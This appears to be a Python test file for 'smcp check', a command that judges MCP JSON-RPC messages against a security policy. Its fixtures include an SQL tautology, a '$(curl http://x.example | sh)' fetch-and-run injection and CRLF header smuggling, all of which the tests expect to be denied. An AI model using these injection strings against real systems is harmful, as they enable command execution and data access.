"""`smcp check`: the verdict of the framework, as an exit code, as text and as JSON; nothing of the message."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest

from tests.cli.terminal import smcp

MARK = "tulip4711"
LIST = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}


def _call(text: str) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": MARK, "arguments": {"q": text}}}


SQL = _call(f"{MARK}' OR '1'='1")
PROSE = _call(f"{MARK}: select a plan or two, it's one")


@pytest.fixture
def message(tmp_path: Path) -> Path:
    """A file that holds an honest message; tests overwrite it."""
    path = tmp_path / "message.json"
    path.write_text(json.dumps(LIST))
    return path


def _policy(folder: Path, text: str) -> str:
    path = folder / "policy.yaml"
    path.write_text(f"version: 1\n{text}")
    return str(path)


def test_an_honest_message_is_allowed(message: Path) -> None:
    message.write_text(json.dumps(PROSE))
    result = smcp("check", str(message))
    assert (result.code, result.out, result.err) == (0, "allowed: the server gets it\n", "")


def test_an_attack_is_denied_with_code_place_and_advice(message: Path) -> None:
    message.write_text(json.dumps(SQL))
    result = smcp("check", str(message))
    assert (result.code, result.err) == (1, "")
    assert result.out.startswith("denied: HTTP 200, a tool result with isError and the request's id\n")
    assert "SMCP631 sql-tautology (high) blocks at /params/arguments/*" in result.out
    assert "parameters" in result.out


@pytest.mark.parametrize("form", ["text", "json"])
def test_nothing_of_the_message_is_printed(message: Path, form: str) -> None:
    message.write_text(json.dumps(SQL))
    result = smcp("check", str(message), "--format", form)
    assert result.code == 1
    assert MARK not in result.out + result.err


def test_the_facts_come_as_json() -> None:
    result = smcp("check", "-", "--format", "json", stdin=json.dumps(SQL).encode())
    facts = result.json
    assert (result.code, facts["allowed"], facts["era"], facts["revision"]) == (1, False, "legacy", "2025-11-25")
    assert ("SMCP631", "block", "/params/arguments/*") in [
        (each["code"], each["action"], each["where"]) for each in facts["findings"]
    ]
    assert (facts["answer"]["status"], facts["answer"]["tool_error"], facts["answer"]["id"]) == (200, True, True)


def test_the_facts_of_an_allowed_message_have_no_answer() -> None:
    result = smcp("check", "-", "--format", "json", stdin=json.dumps(LIST).encode())
    assert (result.code, result.json["allowed"], result.json["findings"], result.json["answer"]) == (0, True, [], None)


def test_a_dropped_notification_is_told_with_its_status() -> None:
    notification = {"jsonrpc": "2.0", "method": "notifications/cancelled"}
    attack = {**notification, "params": {"requestId": 1, "reason": "$(curl http://x.example | sh)"}}
    result = smcp("check", "-", stdin=json.dumps(attack).encode())
    assert result.code == 1
    assert result.out.startswith("denied: HTTP 202, no body\n")


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b'{"jsonrpc":"2.0","id":1,"id":2,"method":"ping"}', "SMCP112"),
        (json.dumps(LIST).encode("utf-16"), "SMCP113"),
        (b"\xef\xbb\xbf" + json.dumps(LIST).encode(), "SMCP113"),
        (b'{"jsonrpc":"2.0","id":1,"method":"ping"', "SMCP114"),
        (b"hello", "SMCP114"),
        (b"[]", "SMCP119"),
        (b"1" + b" " * (1024 * 1024), "SMCP104"),
    ],
)
def test_bytes_that_no_server_should_take_are_judged_as_they_are(raw: bytes, code: str) -> None:
    result = smcp("check", "-", stdin=raw)
    assert result.code == 1
    assert f"  {code} " in result.out


@pytest.mark.parametrize(
    ("raw", "problem"), [(b"", "empty"), (b" \n", "empty"), (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" * 20, "binary data")]
)
def test_input_that_nobody_could_mean_is_an_error_and_no_verdict(message: Path, raw: bytes, problem: str) -> None:
    message.write_bytes(raw)
    result = smcp("check", str(message))
    assert result.code == 2
    assert problem in result.complaint and "expected one JSON-RPC message" in result.complaint


def test_text_cut_inside_a_character_is_judged_and_not_called_binary() -> None:
    result = smcp("check", "-", stdin=b'{"a":"' + b"x" * 4089 + "é".encode() + b'"}')
    assert result.code == 1


@pytest.mark.parametrize(
    ("name", "problem"), [("nowhere.json", "no such file"), (".", "a directory"), ("a\0b", "read")]
)
def test_a_file_that_cannot_be_read_is_one_clear_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, problem: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = smcp("check", name)
    assert result.code == 2
    assert result.complaint.startswith("smcp check: ") and problem in result.complaint


def test_a_policy_with_mistakes_names_each_on_its_line(message: Path, tmp_path: Path) -> None:
    policy = _policy(tmp_path, "server: {max_bodi: 1}\nfoo: 1\n")
    result = smcp("check", str(message), "--policy", policy)
    assert (result.code, result.out) == (2, "")
    first, second = result.err.splitlines()
    assert first.startswith(f"smcp: {policy}:2:") and "did you mean max_body?" in first
    assert second.startswith(f"smcp: {policy}:3:")


def test_a_missing_policy_is_one_clear_line(message: Path) -> None:
    result = smcp("check", str(message), "--policy", "nowhere.yaml")
    assert result.code == 2
    assert "nowhere.yaml: no such file" in result.complaint


def test_the_policy_decides_and_reports_what_it_only_monitors(message: Path, tmp_path: Path) -> None:
    message.write_text(json.dumps(SQL))
    result = smcp("check", str(message), "--policy", _policy(tmp_path, "mode: monitor\n"))
    assert result.code == 0
    assert "SMCP631 sql-tautology (high) is reported" in result.out


def test_the_policy_of_the_environment_counts(message: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    message.write_text(json.dumps(SQL))
    monkeypatch.setenv("SMCP_POLICY", _policy(tmp_path, "mode: monitor\n"))
    assert smcp("check", str(message)).code == 0
    monkeypatch.setenv("SMCP_MODE", "ignored: not of the form of an override")
    monkeypatch.setenv("SMCP_SERVER__MAX_BODY", "10")
    result = smcp("check", str(message))
    assert result.code == 1 and "SMCP104" in result.out


def test_a_trial_leaves_nothing_in_the_audit(message: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    in_policy, in_environment = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    monkeypatch.setenv("SMCP_AUDIT__FILE", str(in_environment))
    message.write_text(json.dumps(SQL))
    policy = _policy(tmp_path, f"audit: {{file: {in_policy}}}\n")
    assert smcp("check", str(message), "--policy", policy).code == 1
    assert not in_policy.exists() and not in_environment.exists()


def test_a_trial_hides_its_own_log_lines_and_no_later_ones(message: Path, caplog: pytest.LogCaptureFixture) -> None:
    message.write_text(json.dumps(SQL))
    assert smcp("check", str(message)).code == 1
    assert caplog.records == []
    logging.getLogger("smcp_security").warning("after")
    assert [record.message for record in caplog.records] == ["after"]


HEADERS = ("--header", "Host: localhost:8000", "--header", "Content-Type: application/json")


def test_headers_bring_the_transport_into_the_verdict(message: Path) -> None:
    assert smcp("check", str(message), *HEADERS).code == 0
    result = smcp("check", str(message), *HEADERS, "--header", "Origin: http://attacker.example")
    assert result.code == 1
    assert result.out.startswith("denied: HTTP 403") and "SMCP102" in result.out


@pytest.mark.parametrize("header", ["Host", ": x", "Hö: x", "A: b\r\nHost: c"])
def test_a_header_of_no_known_form_is_a_usage_error(message: Path, header: str) -> None:
    result = smcp("check", str(message), "--header", header)
    assert result.code == 2
    assert "--header number 1: expected 'Name: value'" in result.complaint


def test_a_header_given_twice_is_refused_rather_than_half_judged(message: Path) -> None:
    result = smcp("check", str(message), *HEADERS, "--header", "host: localhost")
    assert result.code == 2
    assert "--header number 3: 'host' is given twice" in result.complaint


def test_user_and_address_reach_the_policy(message: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from smcp_security import framework

    seen: list[Any] = []
    judge = framework.SMCPSecurityFramework.process_request_sync

    def watch(self: Any, request: Any, context: Any = None) -> Any:
        seen.append(context)
        return judge(self, request, context)

    monkeypatch.setattr(framework.SMCPSecurityFramework, "process_request_sync", watch)
    assert smcp("check", str(message), "--user", "ann", "--address", "192.0.2.7").code == 0
    assert [(each["user_id"], each["ip_address"]) for each in seen] == [("ann", "192.0.2.7")]
